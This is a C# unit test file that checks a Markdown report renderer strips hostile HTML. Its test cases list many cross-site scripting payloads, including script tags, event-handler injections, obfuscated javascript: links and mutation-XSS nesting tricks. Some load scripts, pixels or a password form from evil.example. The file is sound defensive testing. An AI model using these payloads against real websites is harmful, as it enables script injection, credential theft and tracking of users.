using WorkReports.Tests.Support;

namespace WorkReports.Tests.Content;

public sealed class HostileMarkdownTests
{
    static readonly HashSet<string> Attributes =
    [
        "alt",
        "aria-hidden",
        "aria-label",
        "class",
        "colspan",
        "data-seal",
        "href",
        "id",
        "loading",
        "rel",
        "reversed",
        "role",
        "rowspan",
        "scope",
        "src",
        "start",
        "tabindex",
        "title",
        "value",
        "width",
        "height",
    ];

    static readonly HashSet<string> Classes =
    [
        "right",
        "centre",
        "footnotes",
        "footnote-ref",
        "footnote-back-ref",
        "merged",
        "table-wrapper",
    ];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=//evil.example/x.js></sCrIpT>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg onload=alert(1)><script>alert(1)</script></svg>")]
    [InlineData("<math><mtext><script>alert(1)</script></mtext></math>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<object data=x></object><embed src=x>")]
    [InlineData("<a href=\"javascript:alert(1)\">甲</a>")]
    [InlineData("<a href=\"java&#10;script:alert(1)\">甲</a>")]
    [InlineData("[甲](javascript:alert(1))")]
    [InlineData("[甲](java\tscript:alert(1))")]
    [InlineData("[甲](&#106;avascript:alert(1))")]
    [InlineData("[甲](vbscript:x)")]
    [InlineData("![甲](data:image/svg+xml;base64,PHN2Zz4=)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[甲]: javascript:alert(1)\n\n[甲]")]
    [InlineData("正文{onclick=alert(1)}")]
    [InlineData("# 标题 {onclick=alert(1)}\n\n正文")]
    [InlineData("<div style=\"position:fixed;inset:0\">甲</div>")]
    [InlineData("<style>body{display:none}</style>")]
    [InlineData("<link rel=stylesheet href=//evil.example/x.css>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=//evil.example\">")]
    [InlineData("<base href=\"//evil.example/\">")]
    [InlineData("<form action=//evil.example><input name=password><button>登录</button></form>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<div class=\"utility-bar skip-link\" id=\"page-main\">甲</div>")]
    [InlineData("<img src=\"https://evil.example/pixel.png\">")]
    [InlineData("<img src=\"/&#9;/evil.example/pixel.png\">")]
    [InlineData("<img src=\"/\\evil.example/pixel.png\">")]
    [InlineData("<img src=\"/files/../reader/elder\">")]
    [InlineData("![甲](/\\evil.example/pixel.png)")]
    [InlineData("![甲](\\\\evil.example/pixel.png)")]
    [InlineData("![甲](//evil.example/pixel.png)")]
    [InlineData("![甲](/reader/elder)")]
    [InlineData("[甲](&#x2F;\\evil.example)")]
    [InlineData("[甲](\u0001javascript:alert(1))")]
    [InlineData("[甲](JAVASCRIPT&colon;alert(1))")]
    [InlineData("[甲](data:text/html,<script>alert(1)</script>)")]
    [InlineData("[甲](feed:javascript:alert(1))")]
    [InlineData("[甲](view-source:javascript:alert(1))")]
    [InlineData("![甲][图]\n\n[图]: <javascript:alert(1)> \"题\"")]
    [InlineData("脚注[^1]\n\n[^1]: [甲](javascript:alert(1)) <b onclick=alert(1)>乙</b>")]
    [InlineData("词\n: [甲](vbscript:x) <u style=position:fixed>乙</u>")]
    [InlineData("| 甲 |\n|---|\n| <a href=javascript:alert(1) onmouseover=alert(1)>乙</a> |")]
    [InlineData("[甲](https://example.cn \"x\\\" onmouseover=\\\"alert(1)\")")]
    [InlineData("![\" onerror=\"alert(1)](图.png)")]
    [InlineData("<a href=\" javascript:alert(1)\">甲</a><a href='jav&NewLine;ascript:alert(1)'>乙</a>")]
    [InlineData("<svg><a xlink:href=\"javascript:alert(1)\"><text>甲</text></a><animate onbegin=alert(1)></svg>")]
    [InlineData("<svg></p><style><a title=\"</style><img src onerror=alert(1)>\">")]
    [InlineData(
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
    )]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<details open ontoggle=alert(1)><summary>甲</summary></details>")]
    [InlineData("<video src=x onerror=alert(1)></video><audio src=x></audio><source src=x><track src=x>")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\" href=x src=y>甲</p>")]
    [InlineData("<p id=\"page-main\" name=\"getElementById\">甲</p><a id=cookie name=cookie>乙</a>")]
    [InlineData("## Page main\n\n甲")]
    [InlineData("<div class=\"container site-header seal table-wrapper reader-elder\">甲</div>")]
    [InlineData("<body onload=alert(1) class=reader-elder><html onclick=alert(1)>甲")]
    [InlineData("</div></main></body></html><script>alert(1)</script>")]
    [InlineData("<!--><script>alert(1)</script>-->")]
    [InlineData("<xmp><script>alert(1)</script></xmp><plaintext><img src=x onerror=alert(1)>")]
    [InlineData("<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>")]
    [InlineData("<a target=_blank ping=//evil.example download href=//evil.example>甲</a>")]
    public void What_is_hostile_does_not_reach_the_page(string markdown)
    {
        // Text is harmless; what counts is what a browser would make of it.
        var page = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(
            Reading.Report(markdown, beside: content => content.With("政治机关/图.png", [1])).Html
        );
        var forbidden =
            "script, style, iframe, object, embed, svg, math, link, meta, base, form, input, button, template, noscript, [style], [id='page-main'], .utility-bar, .skip-link";
        Assert.Empty(page.Body!.QuerySelectorAll(forbidden));
        foreach (var element in page.Body.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.Attributes, attribute =>
                attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)
            );
            foreach (
                var address in new[] { element.GetAttribute("href"), element.GetAttribute("src") }.OfType<string>()
            )
                Assert.Matches(@"^(https?:|mailto:|tel:|/(?![/\\])|#)", address);
            Assert.Subset(Attributes, element.Attributes.Select(attribute => attribute.Name).ToHashSet());
            Assert.Subset(Classes, element.ClassList.ToHashSet());
            Assert.DoesNotMatch("^page-", element.Id ?? "");
            if (element.LocalName == "img")
                Assert.StartsWith("/files/", element.GetAttribute("src"));
        }
    }

    [Fact]
    public void Tags_that_only_format_go_and_their_words_stay() =>
        Assert.Equal("<p>红字</p>", Reading.Report("<font color=red>红字</font>").Html);

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<svg><script>alert(1)</script><style>alert(1)</style></svg>")]
    [InlineData("<math><annotation-xml>alert(1)</annotation-xml></math>")]
    [InlineData("<noscript>alert(1)</noscript><template>alert(1)</template><textarea>alert(1)</textarea>")]
    public void Tags_that_are_none_of_ours_are_text(string html) =>
        Assert.Equal("甲。\n" + html, Reading.Report("甲。\n\n" + html).Text);

    [Fact]
    public void Characters_that_nobody_sees_do_not_come_in_by_escapes()
    {
        var report = Reading.Report(
            "---\ntitle: \"甲\\x01\\uFFFE乙\"\n---\n丙&#1;&#xFFFE;丁<b title=\"&#2;\">戊&#3;</b>"
        );
        Assert.Equal(("甲乙", "丙丁戊"), (report.Title, report.Text));
        Assert.DoesNotContain(report.Html, letter => char.IsControl(letter) || letter == '\uFFFE');
    }
}
